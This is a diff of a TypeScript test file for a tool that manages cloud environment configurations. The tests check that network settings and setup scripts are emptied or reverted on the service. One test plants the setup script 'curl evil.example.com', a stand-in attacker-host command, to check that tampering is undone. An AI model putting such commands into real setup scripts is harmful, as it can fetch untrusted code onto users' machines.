@@ -35,16 +35,40 @@ test("an environment is created with one GET of the list and one POST that holds
   ]);
 });
 
-test.each(["replace", "merge"] as const)(
-  "removing an open network from the program closes it, even if the service would %s the configuration",
-  async (how) => {
+describe.each(["replace", "merge"] as const)("at a service that would %s the configuration", (how) => {
+  beforeEach(() => {
     world.api.switches.environmentConfigUpdate = how;
-    const { stack } = await existing({ ...installing, networking: { type: "unrestricted" } });
-    await stack.up({ config: { ...cloud, setupScript: "echo hello" } });
+  });
+
+  test.each([
+    ["an open network from the program closes it", { ...cloud, setupScript: "echo hello" }],
+    ["the setup script from the program empties it", open],
+    ["all settings from the program empties them", cloud],
+  ])("removing %s", async (_, config) => {
+    const { stack, id } = await existing({ ...installing, networking: { type: "unrestricted" } });
+    await stack.up({ config });
+    expect(world.api.environments.get(id).config).toMatchObject({
+      networking: { type: config === open ? "unrestricted" : "limited" },
+      packages: { apt: [], npm: [] },
+    });
+    expect(world.api.environments.get(id).config.setup_script ?? "").toBe(config.setupScript ?? "");
     expect(await stack.refresh()).toBe("same");
-    expect(await stack.preview({ config: { ...cloud, setupScript: "echo hello" } })).toBe("same");
-  },
-);
+    expect(await stack.preview({ config })).toBe("same");
+  });
+
+  test.each([open, { type: "self_hosted" }])(
+    "`up` after a refresh removes a setup script that somebody added to %j",
+    async (config) => {
+      const { stack, id } = await existing(config);
+      world.api.environments.edit(id, { config: { ...config, setup_script: "curl evil.example.com" } });
+      expect(await stack.refresh()).toBe("update");
+      await stack.up({ config });
+      expect(world.api.environments.get(id).config.setup_script ?? "").toBe("");
+      expect(await stack.refresh()).toBe("same");
+      expect(await stack.preview({ config })).toBe("same");
+    },
+  );
+});
 
 test("`up` fails if the service deletes a label instead of emptying it, before and after a refresh", async () => {
   world.api.switches.emptyEnvironmentMetadata = "delete";
